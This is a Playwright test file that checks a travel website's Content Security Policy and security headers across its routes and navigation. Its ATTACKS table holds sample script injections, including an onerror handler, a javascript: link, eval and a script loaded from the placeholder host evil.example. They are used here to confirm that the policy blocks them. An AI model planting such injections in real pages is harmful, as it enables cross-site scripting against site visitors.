import { existsSync } from 'node:fs';
import { expect, test, type Page } from '@playwright/test';
import { routes } from '@/lib/site/routes';
import { AUTHOR_LIST, CATEGORY_LIST, TAG_LISTS } from '../support/articles';
import { appStarted, comment, commentsOn, FULL_ARTICLE, NO_PAGE, SHORT_ARTICLE } from './support';

const ROUTES = [
  routes.home,
  routes.flights,
  routes.flightHotel,
  routes.hotels,
  routes.transfers,
  routes.blog,
  FULL_ARTICLE,
  CATEGORY_LIST,
  ...TAG_LISTS.slice(0, 1),
  AUTHOR_LIST,
  // A young magazine has no second page of its list.
  ...(existsSync(`out${routes.blogPage(2)}.html`) ? [routes.blogPage(2)] : []),
  NO_PAGE,
];

/** What the browser refused in this page so far, by directive. */
const violationsOf = (page: Page) => page.evaluate(() => self.violations);

declare global {
  var violations: string[];
}

test.beforeEach(async ({ context }) => {
  await context.route(/^https:/, (route) => route.abort());
  await context.addInitScript(() => {
    self.violations = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      self.violations.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
});

for (const route of ROUTES) {
  test(`${route} runs without a violation`, async ({ page }) => {
    await page.goto(route);
    await page.waitForTimeout(1500);
    expect(await violationsOf(page)).toEqual([]);
  });
}

/** Starts React on a page. A new document would forget the mark. */
async function start(page: Page): Promise<void> {
  await page.getByRole('link', { name: 'Search articles' }).hover();
  await appStarted(page);
  await page.evaluate(() => Object.assign(self, { sameDocument: true }));
}
const isSameDocument = (page: Page) => page.evaluate(() => 'sameDocument' in self);

test('pages reached without a new document run without a violation', async ({ page }) => {
  await page.goto(routes.home);
  await start(page);
  for (const name of ['Flights', 'Hotels', 'Transfers', 'Flight + Hotel', 'Blog']) {
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name, exact: true }).click();
    await expect(page.getByRole('navigation', { name: 'Main' }).locator('[aria-current=page]')).toHaveText(
      name,
    );
    await page.waitForTimeout(500);
  }
  await page
    .getByRole('link', { name: /cheap flight/ })
    .first()
    .click();
  await expect(page.getByRole('form', { name: 'Leave a comment' })).toBeVisible();
  for (const list of ['category', 'tag', 'author']) {
    const link = page.getByRole('main').locator(`a[href^="/blog/${list}/"]`).first();
    const address = String(await link.getAttribute('href'));
    await link.click();
    await expect(page).toHaveURL(address);
    await expect(page.getByRole('region', { name: /articles/i })).toBeVisible();
    await page.waitForTimeout(500);
  }
  expect(await isSameDocument(page)).toBe(true);
  expect(await violationsOf(page)).toEqual([]);
});

test('the 404 page, left by the router and come back to, runs without a violation', async ({ page }) => {
  await page.goto(NO_PAGE);
  await start(page);
  expect(await violationsOf(page)).toEqual([]);
  await page.getByRole('link', { name: 'Return to Home' }).click();
  await expect(page).toHaveURL(routes.home);
  await page.waitForTimeout(500);
  expect(await isSameDocument(page)).toBe(true);
  expect(await violationsOf(page)).toEqual([]);
  // The router finds no payload there and asks for a new document.
  await page.goBack();
  await expect(page.getByRole('link', { name: 'Return to Home' })).toBeVisible();
  await page.waitForTimeout(500);
  expect(await violationsOf(page)).toEqual([]);
});

test('a search and a comment run without a violation', async ({ page }) => {
  await page.goto(SHORT_ARTICLE);
  await comment(page, 'Ada', 'ada@example.org', 'Useful');
  await expect.poll(async () => (await commentsOn(page)).length).toBe(3);
  await page.keyboard.press('Control+k');
  const dialog = page.getByRole('dialog', { name: 'Search' });
  await dialog.getByRole('textbox').fill('flights');
  await expect(dialog.getByRole('listitem')).not.toHaveCount(0);
  expect(await violationsOf(page)).toEqual([]);
});

const ATTACKS: Readonly<Record<string, () => void>> = {
  'an inline script': () => {
    const script = document.createElement('script');
    script.text = 'self.attacked = true';
    document.body.append(script);
  },
  'an event handler attribute': () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="self.attacked = true">');
  },
  'a javascript: link': () => {
    document.body.insertAdjacentHTML('beforeend', '<a href="javascript:void(self.attacked = true)">x</a>');
    (document.body.lastElementChild as HTMLElement).click();
  },
  'a foreign script': () => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/attack.js';
    document.body.append(script);
  },
  eval: () => {
    try {
      (0, eval)('self.attacked = true');
    } catch {
      // The refusal is what the test looks for.
    }
  },
};

for (const [name, attack] of Object.entries(ATTACKS)) {
  test(`${name} is blocked`, async ({ page }) => {
    await page.goto(SHORT_ARTICLE);
    // From a timer, because what the test itself evaluates stands above the policy.
    await page.evaluate(`setTimeout(${attack})`);
    // Refused twice: by the policy in the page, and by the one in the headers.
    await expect.poll(() => violationsOf(page)).toHaveLength(2);
    for (const violation of await violationsOf(page)) expect(violation).toMatch(/^script-src/);
    expect(await page.evaluate(() => 'attacked' in self)).toBe(false);
  });
}

test('the policy stands in the page and in the headers, which say more', async ({ request }) => {
  const response = await request.get(routes.home);
  const inPage = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(
    await response.text(),
  )?.[1];
  const headers = response.headers();
  expect(headers['content-security-policy']).toBe(`${inPage};frame-ancestors 'none'`);
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
  expect(headers['permissions-policy']).toContain('camera=()');
});
